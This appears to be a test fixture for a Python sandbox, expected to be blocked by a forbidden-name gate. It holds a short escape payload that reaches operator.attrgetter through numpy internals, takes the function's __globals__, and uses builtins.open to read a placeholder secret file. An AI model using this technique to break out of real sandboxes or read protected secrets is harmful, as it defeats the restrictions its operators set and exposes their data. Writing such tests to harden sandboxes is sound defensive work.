# numpy's own imports lead to attributes by their names.
# gate: forbidden_name
# alone: raised
import numpy as np

def revise_state(s):
    found = np.polynomial.polyutils.operator.attrgetter("__globals__")(revise_state)
    return list(found["__builtins__"].open("@SECRET@", "rb").read())
